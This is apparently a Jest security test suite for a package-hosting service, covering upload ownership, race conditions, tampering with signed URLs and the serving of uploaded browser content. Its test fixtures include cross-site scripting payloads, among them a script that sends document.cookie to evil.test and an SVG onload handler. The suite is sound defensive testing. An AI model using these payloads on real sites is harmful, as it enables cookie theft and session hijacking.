import { randomBytes } from 'node:crypto';
import { jest } from '@jest/globals';
import { type Product, startProduct } from '@vivarium/testkit/product';
import { mintToken } from '@vivarium/token/format';
import { type Answered, ask, basic } from './ask.js';
import { condaPackage, wheel } from './distributions.js';
import { condaBase, JSON_V1, simpleBase, simpleFiles } from './formats.js';
import { type Distribution, formOf, Publisher, type Ticket } from './publisher.js';
import { Secrets } from './secrets.js';

jest.setTimeout(120_000);

const secrets = new Secrets();
let product: Product;
let alice: Publisher & { readonly password: string };
let bob: Publisher & { readonly password: string };

beforeAll(async () => {
  product = await startProduct();
  const admin = await Publisher.admin(product, secrets);
  alice = await admin.makeUser('alice');
  bob = await admin.makeUser('bob');
});

afterAll(async () => {
  await product?.stop();
});

interface Stage {
  readonly owner: Publisher;
  readonly what: Distribution;
  readonly ticket: Ticket;
}

async function stageOf(owner: Publisher, what: Distribution): Promise<Stage> {
  await owner.register(what);
  return { owner, what, ticket: await owner.stage(what) };
}

function pathOf(login: string, { name, version, basename }: Distribution): string {
  return `/commit/${login}/${name}/${version}/${basename}`;
}

function tellingOf({ status, told, text }: Answered, secret: string): string {
  return [status, ...told, text()].join('\n').replaceAll(secret, '…');
}

describe('a stage', () => {
  it('is committed by who opened it, at its own path, and is unknown to everybody else', async () => {
    // Two accounts, and two uploads of each: one whose bytes have come, and one that waits for them.
    const stages: Stage[] = [];
    for (const owner of [alice, bob]) {
      for (const version of ['1.0', '2.0']) {
        stages.push(await stageOf(owner, condaPackage({ name: 'paired', version })));
      }
      const [received] = stages.slice(-2);
      if (received !== undefined) await owner.send(received.ticket, received.what);
    }
    const everywhere = stages.map(({ owner, what }) => pathOf(owner.login, what));
    const nothing = randomBytes(16).toString('hex');
    const refuseAll = async () => {
      const told: unknown[] = [];
      for (const caller of [alice, bob]) {
        for (const { owner, what, ticket } of stages) {
          for (const path of everywhere) {
            if (caller === owner && path === pathOf(owner.login, what)) continue;
            const [one, other] = [
              await caller.call('POST', path, { dist_id: ticket.dist_id }),
              await caller.call('POST', path, { dist_id: nothing }),
            ];
            const [known, unknown] = [tellingOf(one, ticket.dist_id), tellingOf(other, nothing)];
            if (one.status < 400 || known !== unknown) told.push([caller.login, owner.login, path, known, unknown]);
          }
        }
      }
      expect(told).toEqual([]);
    };
    await refuseAll();
    const answers: Answered[] = [];
    for (const { owner, what, ticket } of [stages[0], stages[2]].filter((each) => each !== undefined)) {
      answers.push(await owner.expectCall(200, 'POST', pathOf(owner.login, what), { dist_id: ticket.dist_id }));
    }
    // Committed ones are as unknown to others as before, and as known to their own.
    await refuseAll();
    for (const [at, { owner, what, ticket }] of [stages[0], stages[2]].filter((each) => each !== undefined).entries()) {
      const again = await owner.expectCall(200, 'POST', pathOf(owner.login, what), { dist_id: ticket.dist_id });
      expect(again.json<{ sha256: string }>().sha256).toBe(answers[at]?.json<{ sha256: string }>().sha256);
    }
    // What waits for its bytes is no file yet, whoever asks.
    for (const { owner, what, ticket } of [stages[1], stages[3]].filter((each) => each !== undefined)) {
      const early = await owner.call('POST', pathOf(owner.login, what), { dist_id: ticket.dist_id });
      expect(early.status).toBeGreaterThanOrEqual(400);
      await owner.send(ticket, what);
      await owner.commit(what, ticket);
    }
  });

  it('takes its bytes once, however many send them at the same time', async () => {
    const { owner, what, ticket } = await stageOf(alice, condaPackage({ name: 'raced', version: '1.0' }));
    const answers = await Promise.all(Array.from({ length: 50 }, () => owner.post(ticket, what.basename, what.bytes)));
    const statuses = answers.map(({ status }) => status);
    expect(statuses.filter((status) => status === 201)).toHaveLength(1);
    expect(statuses.filter((status) => status !== 201 && status !== 409 && status !== 403)).toEqual([]);
    expect((await owner.post(ticket, what.basename, what.bytes)).status).toBe(403);
    await owner.commit(what, ticket);
    const { bytes } = await ask(`${condaBase({ product, channel: 'alice' })}/${what.basename}`);
    expect(bytes.equals(what.bytes)).toBe(true);
  });
});

describe('the address of a ticket', () => {
  const path = ({ post_url }: Ticket) => new URL(post_url).pathname;

  it.each([
    ['the token of somebody else', async () => ({ Authorization: `token ${await bob.makeToken({ name: 'ticket' })}` })],
    ['a token that nobody knows', async () => ({ Authorization: `token ${mintToken(randomBytes)}` })],
    ['no token at all', async () => ({ Authorization: 'token nonsense' })],
    ['a password', async () => ({ Authorization: basic('alice', alice.password) })],
    ['a wrong password', async () => ({ Authorization: basic('alice', 'wrong') })],
    ['a scheme of its own', async () => ({ Authorization: 'Negotiate abc' })],
    ['a cookie', async () => ({ Cookie: 'vivarium=nonsense; __Host-vivarium=nonsense' })],
    ['a page of another site', async () => ({ Origin: 'https://evil.test', Referer: 'https://evil.test/' })],
  ])('reads no other credential: not %s', async (what, headers) => {
    const file = condaPackage({ name: `beside-${what.replaceAll(/[^a-z]+/g, '-')}`, version: '1.0' });
    const { owner, ticket } = await stageOf(alice, file);
    const { boundary, body } = formOf(ticket.form_data, file.basename, file.bytes);
    const { status } = await ask(ticket.post_url, {
      method: 'POST',
      headers: { 'Content-Type': `multipart/form-data; boundary=${boundary}`, ...(await headers()) },
      body,
    });
    expect(status).toBe(201);
    await owner.commit(file, ticket);
  });

  it('opens for what we signed and for nothing near it', async () => {
    const [one, other] = [
      await stageOf(alice, condaPackage({ name: 'signed', version: '1.0' })),
      await stageOf(bob, condaPackage({ name: 'signed', version: '1.0' })),
    ];
    const [mine, theirs] = [path(one.ticket), path(other.ticket)];
    const at = mine.lastIndexOf('/') + 1;
    const [text, foreign] = [mine.slice(at), theirs.slice(at)];
    const [id, mac] = [text.slice(0, 32), text.slice(33)];
    const turned = (sign: string) => (sign === '0' ? '1' : '0');
    const near = [
      `${id}-${foreign.slice(33)}`,
      `${foreign.slice(0, 32)}-${mac}`,
      `${turned(id.charAt(0))}${id.slice(1)}-${mac}`,
      `${id}-${mac.slice(0, -1)}${turned(mac.charAt(63))}`,
      `${id}-${mac.slice(0, -1)}`,
      `${id}-${mac}0`,
      `${id.toUpperCase()}-${mac.toUpperCase()}`,
      `${id}${mac}`,
      `${id}-${'0'.repeat(64)}`,
      `${id}-`,
      id,
      `${text}%00`,
      `${text}%20`,
      `${text};x`,
      `%20${text}`,
    ].filter((each) => each !== text);
    const { boundary, body } = formOf(one.ticket.form_data, one.what.basename, one.what.bytes);
    for (const each of near) {
      const answered = await ask(product.url, {
        method: 'POST',
        rawPath: `${mine.slice(0, at)}${each}`,
        headers: { 'Content-Type': `multipart/form-data; boundary=${boundary}` },
        body,
      });
      expect([each, answered.status]).toEqual([each, each.includes('%00') ? 400 : 403]);
    }
    await one.owner.send(one.ticket, one.what);
    await other.owner.send(other.ticket, other.what);
  });
});

describe('what a publisher made to run in a browser', () => {
  const EVIL = '<!doctype html><html><body><script>fetch("//evil.test/"+document.cookie)</script></body></html>';
  const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>';
  const NOTEBOOK = JSON.stringify({
    cells: [{ cell_type: 'code', outputs: [{ output_type: 'display_data', data: { 'text/html': EVIL } }] }],
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  });
  const files = [
    ['file', 'evil.html', EVIL],
    ['file', 'evil.svg', SVG],
    ['file', 'evil.xhtml', SVG],
    ['ipynb', 'evil.ipynb', NOTEBOOK],
    ['file', 'evil.js', 'alert(1)'],
    ['file', 'evil', EVIL],
  ] as const;

  function expectInert(what: string, { status, headers }: Answered): void {
    expect([what, status, headers]).toEqual([
      what,
      200,
      expect.objectContaining({
        'content-type': 'application/octet-stream',
        'content-disposition': expect.stringMatching(/^attachment/),
        'x-content-type-options': 'nosniff',
        'content-security-policy': expect.stringMatching(/^sandbox;/),
      }),
    ]);
    expect([what, headers['set-cookie']]).toEqual([what, undefined]);
  }

  it.each(files)('is a download and nothing else: %s %s', async (type, basename, text) => {
    const distribution = {
      type: type as Distribution['type'],
      name: 'evil',
      version: '1.0',
      basename,
      bytes: Buffer.from(text),
      attrs: {},
    };
    await alice.upload(distribution);
    const file = (await alice.expectCall(200, 'GET', `/dist/alice/evil/1.0/${basename}`)).json<{
      download_url: string;
    }>();
    for (const [method, headers] of [
      ['GET', {}],
      ['HEAD', {}],
      ['GET', { Accept: 'text/html' }],
      ['GET', { Accept: 'image/svg+xml' }],
    ] as const) {
      expectInert(`${method} ${basename}`, await ask(file.download_url, { method, headers }));
    }
    const part = await ask(file.download_url, { headers: { Range: 'bytes=0-4' } });
    expect([part.status, part.headers]).toEqual([
      206,
      expect.objectContaining({
        'content-type': 'application/octet-stream',
        'content-security-policy': expect.stringMatching(/^sandbox;/),
      }),
    ]);
    const known = await ask(file.download_url, { headers: { 'If-None-Match': '*' } });
    expect([known.status, known.headers['content-security-policy']]).toEqual([304, expect.stringMatching(/^sandbox;/)]);
  });

  it('is a download on the routes of conda and Python, and its words are text in every page', async () => {
    const conda = condaPackage({ name: 'evil-conda', version: '1.0', about: { summary: EVIL, description: SVG } });
    const python = wheel({
      name: 'evil-python',
      version: '1.0',
      metadataOverrides: { Summary: '<script>alert(1)</script>' },
    });
    for (const each of [conda, python]) await alice.upload(each);
    const [file] = await simpleFiles({ product, channel: 'alice' }, 'evil-python');
    const wheelUrl = new URL(file?.url ?? '', `${simpleBase({ product, channel: 'alice' })}/evil-python/`).href;
    for (const url of [
      `${condaBase({ product, channel: 'alice' })}/${conda.basename}`,
      `${product.url}/alice/${conda.basename}`,
      `${condaBase({ product, channel: 'alice' })}/label/main/${conda.basename}`,
      wheelUrl,
      `${wheelUrl}.metadata`,
    ]) {
      expectInert(url, await ask(url, { headers: { Accept: 'text/html' } }));
    }
    for (const url of [
      `${product.url}/alice`,
      `${product.url}/alice/evil`,
      `${product.url}/alice/evil-conda`,
      `${product.url}/alice/evil-python`,
      `${simpleBase({ product, channel: 'alice' })}/`,
      `${simpleBase({ product, channel: 'alice' })}/evil-python/`,
    ]) {
      const page = await ask(url, { headers: { Accept: 'text/html' } });
      expect([url, page.status, page.headers['content-type']]).toEqual([
        url,
        200,
        expect.stringContaining('text/html'),
      ]);
      expect([url, /<script|<svg|onload=/i.test(page.text())]).toEqual([url, false]);
      expect([url, page.headers['x-content-type-options']]).toEqual([url, 'nosniff']);
    }
    const api = await ask(`${product.api}/package/alice/evil-conda`, { headers: { Accept: 'text/html' } });
    expect([api.headers['content-type'], api.headers['x-content-type-options']]).toEqual([
      expect.stringMatching(/^application\/json/),
      'nosniff',
    ]);
    const json = await ask(`${simpleBase({ product, channel: 'alice' })}/evil-python/`, {
      headers: { Accept: JSON_V1 },
    });
    expect(json.headers['content-type']).toBe(JSON_V1);
  });

  it('is no page of ours when an address that fails repeats it', async () => {
    for (const at of ['/conda/alice/noarch/', '/pypi/alice/simple/', '/api/package/alice/', '/alice/', '/']) {
      for (const accept of ['text/html', '*/*']) {
        const rawPath = `${at}${encodeURIComponent('<script>alert(1)</script>')}`;
        const answered = await ask(product.url, { rawPath, headers: { Accept: accept } });
        expect([rawPath, answered.status >= 400]).toEqual([rawPath, true]);
        const isHtml = answered.headers['content-type']?.includes('html') === true;
        expect([rawPath, accept, isHtml && answered.text().includes('<script')]).toEqual([rawPath, accept, false]);
        expect(answered.headers['x-content-type-options']).toBe('nosniff');
      }
    }
  });
});

it('tells none of the secrets in its output', () => {
  expect(secrets.toldBy(product)).toEqual([]);
});
